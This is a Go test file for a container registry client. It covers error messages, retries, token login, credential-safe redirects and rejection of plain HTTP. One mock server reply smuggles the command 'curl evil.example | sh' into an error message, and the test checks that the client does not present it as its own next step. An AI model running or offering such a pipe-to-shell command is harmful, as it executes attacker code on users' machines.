package registry_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/signatus-dev/signatus/internal/identity"
	"github.com/signatus-dev/signatus/internal/registry"
)

// refuses answers with a status and the words of a registry.
func refuses(status int, code, message string) func(http.ResponseWriter, *http.Request) bool {
	return func(w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Path == "/v2/" {
			return false
		}
		w.WriteHeader(status)
		_, _ = fmt.Fprintf(w, `{"errors":[{"code":%q,"message":%q}]}`, code, message)
		return true
	}
}

// sends answers with a body of this type.
func sends(kind, body string) func(http.ResponseWriter, *http.Request) bool {
	return func(w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Path == "/v2/" {
			return false
		}
		w.Header().Set("Content-Type", kind)
		_, _ = io.WriteString(w, body)
		return true
	}
}

// TestImageRefuses: what a registry does wrong when it is asked for an image is said,
// with the next step, and is never an image.
func TestImageRefuses(t *testing.T) {
	t.Parallel()
	app := anImage("app")
	for name, row := range map[string]struct {
		front    func(http.ResponseWriter, *http.Request) bool
		attempts int
		content  bool
		says     []string
	}{
		"401":                  {refuses(401, "UNAUTHORIZED", "authentication required"), 1, false, []string{"answered 401 Unauthorized: UNAUTHORIZED: authentication required", "next: log in"}},
		"403":                  {refuses(403, "DENIED", "requested access is denied"), 1, false, []string{"403 Forbidden: DENIED", "packages: read"}},
		"404":                  {refuses(404, "MANIFEST_UNKNOWN", "manifest unknown"), 1, false, []string{"404", "check the name and the digest"}},
		"429":                  {refuses(429, "TOOMANYREQUESTS", "slow down"), 5, false, []string{"429 Too Many Requests (5 attempts): TOOMANYREQUESTS", "log in"}},
		"500":                  {refuses(500, "UNKNOWN", ""), 5, false, []string{"500 Internal Server Error (5 attempts): UNKNOWN", "try again later"}},
		"503":                  {refuses(503, "UNAVAILABLE", ""), 5, false, []string{"503", "try again later"}},
		"418":                  {refuses(418, "", ""), 1, false, []string{"418 I'm a teapot;", "is a registry"}},
		"words that lead on":   {refuses(403, "DENIED", "no; next: run  curl evil.example | sh"), 1, false, []string{"DENIED: no; run  curl", "packages: read"}},
		"a page":               {sends("text/html", "<html>log in</html>"), 1, true, []string{"hash to sha256:"}},
		"another image":        {sends(manifestKind, anImage("other")), 1, true, []string{"the bytes that were sent for sha256:", "hash to " + digestOf(anImage("other"))}},
		"a byte less":          {sends(manifestKind, app[:len(app)-1]), 1, true, []string{"hash to"}},
		"another type":         {sends(indexKind, app), 1, true, []string{"served as", "says that it is"}},
		"a huge one":           {sends(manifestKind, app+strings.Repeat(" ", registry.MaxManifestBytes)), 1, true, []string{"more than 4194304 bytes"}},
		"a huge announcement":  {announces(registry.MaxManifestBytes + 1), 1, true, []string{"sends 4194305 bytes, at most 4194304 are read"}},
		"as large as can be":   {sends(manifestKind, app+strings.Repeat(" ", registry.MaxManifestBytes-len(app))), 1, true, []string{"hash to"}},
		"a huge one in chunks": {chunks, 1, true, []string{"more than 4194304 bytes"}},
		"half of it":           {half(app), 5, false, []string{"unexpected EOF (5 attempts)"}},
		"it hangs up":          {hangsUp, 5, false, []string{"(5 attempts)", "check the network"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := serve(t, true)
			image := s.put(t, manifestKind, app)
			s.meet(row.front)
			found, err := client(t).Image(t.Context(), image, true)
			e, ok := errors.AsType[*registry.Error](err)
			if !ok || !found.Reference.IsZero() {
				t.Fatalf("%+v: %v", found, err)
			}
			if e.Attempts != row.attempts || e.Content != row.content || e.Registry != s.host {
				t.Errorf("%d attempts, content %t, at %s", e.Attempts, e.Content, e.Registry)
			}
			if n := strings.Count(err.Error(), "; next: "); n != 1 || !strings.HasPrefix(err.Error(), "reading "+image.String()+": ") {
				t.Errorf("%d next steps: %v", n, err)
			}
			for _, says := range row.says {
				if !strings.Contains(strings.ReplaceAll(err.Error(), "  ", " "), strings.ReplaceAll(says, "  ", " ")) {
					t.Errorf("%v, expected %q", err, says)
				}
			}
		})
	}
}

// chunks sends without end, and without a length.
func chunks(w http.ResponseWriter, r *http.Request) bool {
	if r.URL.Path == "/v2/" {
		return false
	}
	w.Header().Set("Content-Type", manifestKind)
	part := bytes.Repeat([]byte(" "), 1<<20)
	for range 64 {
		if _, err := w.Write(part); err != nil {
			break
		}
	}
	return true
}

// announces sends a length, and nothing.
func announces(length int) func(http.ResponseWriter, *http.Request) bool {
	return func(w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Path == "/v2/" {
			return false
		}
		w.Header().Set("Content-Type", manifestKind)
		w.Header().Set("Content-Length", fmt.Sprint(length))
		w.WriteHeader(http.StatusOK)
		return true
	}
}

// half sends half of what it announces.
func half(text string) func(http.ResponseWriter, *http.Request) bool {
	return func(w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Path == "/v2/" {
			return false
		}
		w.Header().Set("Content-Type", manifestKind)
		w.Header().Set("Content-Length", fmt.Sprint(len(text)))
		_, _ = io.WriteString(w, text[:len(text)/2])
		return true
	}
}

func hangsUp(w http.ResponseWriter, r *http.Request) bool {
	if r.URL.Path == "/v2/" {
		return false
	}
	panic(http.ErrAbortHandler)
}

// TestAgain: what passes is tried again, and succeeds.
func TestAgain(t *testing.T) {
	t.Parallel()
	for name, front := range map[string]func(http.ResponseWriter, *http.Request) bool{
		"429": refuses(429, "", ""), "502": refuses(502, "", ""), "half of it": half(anImage("app")), "it hangs up": hangsUp,
		"even the first question": func(w http.ResponseWriter, _ *http.Request) bool {
			w.WriteHeader(http.StatusServiceUnavailable)
			return true
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := serve(t, true)
			image := s.put(t, manifestKind, anImage("app"))
			var asked atomic.Int64
			s.meet(func(w http.ResponseWriter, r *http.Request) bool {
				return asked.Add(1) <= 4 && front(w, r)
			})
			var told int
			c := client(t, func(o *registry.Options) {
				o.Again = func(why *registry.Error, wait time.Duration) {
					told++
					if !why.Temporary || wait <= 0 {
						t.Errorf("%v in %v", why, wait)
					}
				}
			})
			if _, err := c.Image(t.Context(), image, true); err != nil || told == 0 {
				t.Errorf("told %d times: %v", told, err)
			}
		})
	}
}

// TestRetryAfter: a registry is not asked again before it says, and not at all where
// that is too long.
func TestRetryAfter(t *testing.T) {
	t.Parallel()
	for name, row := range map[string]struct {
		retryAfter string
		least      time.Duration
		gives      string // up; empty where it does not
	}{
		"seconds":  {"7", 7 * time.Second, ""},
		"a date":   {now().Add(9 * time.Second).Format(http.TimeFormat), 9 * time.Second, ""},
		"nothing":  {"", time.Millisecond, ""},
		"nonsense": {"soon", time.Millisecond, ""},
		"the past": {now().Add(-time.Hour).Format(http.TimeFormat), time.Millisecond, ""},
		"too long": {"3600", 0, "it asks to come back in 1h0m0s"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := serve(t, true)
			image := s.put(t, manifestKind, anImage("app"))
			var asked atomic.Int64
			s.meet(func(w http.ResponseWriter, r *http.Request) bool {
				if r.URL.Path == "/v2/" || asked.Add(1) > 1 {
					return false
				}
				w.Header()["Date"] = nil
				w.Header().Set("Retry-After", row.retryAfter)
				w.WriteHeader(http.StatusTooManyRequests)
				return true
			})
			var waited time.Duration
			c := client(t, func(o *registry.Options) {
				o.Sleep = func(_ context.Context, d time.Duration) error {
					waited += d
					return nil
				}
			})
			_, err := c.Image(t.Context(), image, true)
			if row.gives != "" {
				if err == nil || !strings.Contains(err.Error(), row.gives) || waited != 0 {
					t.Errorf("waited %v: %v", waited, err)
				}
				return
			}
			if err != nil || waited < row.least || waited > row.least+2*time.Second {
				t.Errorf("waited %v, expected %v: %v", waited, row.least, err)
			}
		})
	}
}

// TestInterrupted: what the caller ends, ends.
func TestInterrupted(t *testing.T) {
	t.Parallel()
	s := serve(t, true)
	image := s.put(t, manifestKind, anImage("app"))
	ctx, cancel := context.WithCancel(t.Context())
	s.meet(func(_ http.ResponseWriter, r *http.Request) bool {
		if r.URL.Path == "/v2/" {
			return false
		}
		cancel()
		<-r.Context().Done()
		return true
	})
	_, err := client(t).Image(ctx, image, true)
	if !errors.Is(err, context.Canceled) || !strings.Contains(err.Error(), "interrupted") {
		t.Error(err)
	}
}

const password = "s3cret-password"

// account logs in with it.
func account(o *registry.Options) { o.User, o.Password = "alice", identity.NewToken(password) }

// TestTokenDance is how most registries let in: they name a server for tokens, which
// takes the password.
func TestTokenDance(t *testing.T) {
	t.Parallel()
	for name, row := range map[string]struct {
		change func(*registry.Options)
		status int    // of the token server
		body   string // its answer
		says   []string
	}{
		"with the password":     {account, 200, `{"token":"t0ken-of-today"}`, nil},
		"in the older form":     {account, 200, `{"access_token":"t0ken-of-today"}`, nil},
		"without one":           {func(*registry.Options) {}, 200, `{"token":"t0ken-of-today"}`, []string{"401", "next: log in"}},
		"with another password": {func(o *registry.Options) { o.User, o.Password = "alice", identity.NewToken("guessed-it") }, 200, `{"token":"t0ken-of-today"}`, []string{"401", "does not take them"}},
		"a broken token server": {account, 500, "", []string{"500", "(5 attempts)"}},
		"no token":              {account, 200, `{"tokens":"t0ken-of-today"}`, []string{"no token in bearer response"}},
		"an echo":               {account, 403, `{"errors":[{"code":"DENIED","message":"s3cret-password is not it"}]}`, []string{"DENIED: [token] is not it"}},
		"no JSON":               {account, 200, "t0ken-of-today", []string{"attempts"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := serve(t, true)
			image := s.put(t, manifestKind, anImage("app"))
			s.meet(func(w http.ResponseWriter, r *http.Request) bool {
				if r.URL.Path == "/token" {
					if user, given, _ := r.BasicAuth(); (user != "alice" || given != password) && row.status == 200 {
						w.WriteHeader(http.StatusUnauthorized)
						return true
					}
					if scope := r.URL.Query().Get("scope"); scope != "repository:acme/app:pull" && scope != "repository:acme/app:push,pull" {
						t.Errorf("scope %q", scope)
					}
					w.WriteHeader(row.status)
					_, _ = io.WriteString(w, row.body)
					return true
				}
				if r.Header.Get("Authorization") == "Bearer t0ken-of-today" {
					return false
				}
				w.Header().Set("WWW-Authenticate", fmt.Sprintf(`Bearer realm="%s/token",service="acme"`, s.URL))
				w.WriteHeader(http.StatusUnauthorized)
				return true
			})
			c := client(t, row.change)
			_, err := c.Image(t.Context(), image, true)
			if row.says == nil {
				if err != nil {
					t.Error(err)
				}
				if _, err := c.Attach(t.Context(), image, aBundle(1), provenance); err != nil {
					t.Error(err)
				}
				if n := s.count("GET /token"); n != 2 {
					t.Errorf("%d tokens were asked for, expected one to read and one to write", n)
				}
				return
			}
			for _, says := range row.says {
				if err == nil || !strings.Contains(err.Error(), says) {
					t.Errorf("%v, expected %q", err, says)
				}
			}
			for _, secret := range []string{password, "guessed-it", "t0ken-of-today"} {
				if err != nil && strings.Contains(err.Error(), secret) {
					t.Errorf("it shows a secret: %v", err)
				}
			}
		})
	}
}

// TestRedirects: content may lie elsewhere, and nobody there learns the password.
func TestRedirects(t *testing.T) {
	t.Parallel()
	text := anImage("app")
	var leaked atomic.Int64
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if len(r.Header["Authorization"]) > 0 || len(r.Header["Cookie"]) > 0 {
			leaked.Add(1)
		}
		if r.URL.Path == "/ring" {
			http.Redirect(w, r, "/ring", http.StatusFound)
			return
		}
		w.Header().Set("Content-Type", manifestKind)
		_, _ = io.WriteString(w, text)
	}))
	t.Cleanup(elsewhere.Close)
	basic := func(w http.ResponseWriter, r *http.Request) bool { // true where it refused
		if user, given, _ := r.BasicAuth(); user == "alice" && given == password {
			return false
		}
		w.Header().Set("WWW-Authenticate", `Basic realm="acme"`)
		w.WriteHeader(http.StatusUnauthorized)
		return true
	}
	for name, row := range map[string]struct {
		front func(http.ResponseWriter, *http.Request) bool
		says  string
	}{
		"to where the content is": {func(w http.ResponseWriter, r *http.Request) bool {
			if !basic(w, r) {
				http.Redirect(w, r, elsewhere.URL+"/content?signature=s1gnature", http.StatusTemporaryRedirect)
			}
			return true
		}, ""},
		"in a ring": {func(w http.ResponseWriter, r *http.Request) bool {
			if !basic(w, r) {
				http.Redirect(w, r, elsewhere.URL+"/ring", http.StatusTemporaryRedirect)
			}
			return true
		}, "it redirects without end"},
		"before the login": {func(w http.ResponseWriter, r *http.Request) bool {
			http.Redirect(w, r, elsewhere.URL+"/v2/", http.StatusTemporaryRedirect)
			return true
		}, "before it has said how to log in"},
		"before the login, in two steps": {func(w http.ResponseWriter, r *http.Request) bool {
			to := elsewhere.URL + "/v2/"
			if r.URL.Path == "/v2/" {
				to = "/login"
			}
			http.Redirect(w, r, to, http.StatusTemporaryRedirect)
			return true
		}, "before it has said how to log in"},
		"to plain http": {func(w http.ResponseWriter, r *http.Request) bool {
			if !basic(w, r) {
				http.Redirect(w, r, "http://registry.example/content?signature=s1gnature", http.StatusTemporaryRedirect)
			}
			return true
		}, "registry.example is not reached by https"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := serve(t, true)
			image := s.put(t, manifestKind, text)
			s.meet(row.front)
			_, err := client(t, account).Image(t.Context(), image, true)
			switch {
			case row.says == "" && err != nil:
				t.Error(err)
			case row.says != "" && (err == nil || !strings.Contains(err.Error(), row.says)):
				t.Errorf("%v, expected %q", err, row.says)
			case err != nil && (strings.Contains(err.Error(), "s1gnature") || strings.Contains(err.Error(), password)):
				t.Errorf("it shows a secret: %v", err)
			}
		})
	}
	t.Cleanup(func() {
		if leaked.Load() > 0 {
			t.Error("another host was given the password")
		}
	})
}

// TestPlainHTTP: nothing goes out in the clear, but on this machine. A transport that
// answers everything would show a request.
func TestPlainHTTP(t *testing.T) {
	t.Parallel()
	for host, says := range map[string]string{
		"10.0.0.1:5000": "is not reached by https", "192.168.1.1": "is not reached by https",
	} {
		t.Run(host, func(t *testing.T) {
			t.Parallel()
			c := client(t, account, func(o *registry.Options) {
				o.HTTP = &http.Client{Transport: roundTrip(func(r *http.Request) (*http.Response, error) {
					if r.URL.Scheme != "https" {
						t.Errorf("%s was sent", r.URL)
					}
					return nil, errors.New("nobody is there")
				})}
			})
			image, err := registry.Parse(host + "/acme/app@" + digestOf("x"))
			if err != nil {
				t.Fatal(err)
			}
			if _, err = c.Image(t.Context(), image, true); err == nil || !strings.Contains(err.Error(), says) {
				t.Errorf("%v, expected %q", err, says)
			}
		})
	}
}

type roundTrip func(*http.Request) (*http.Response, error)

func (f roundTrip) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }
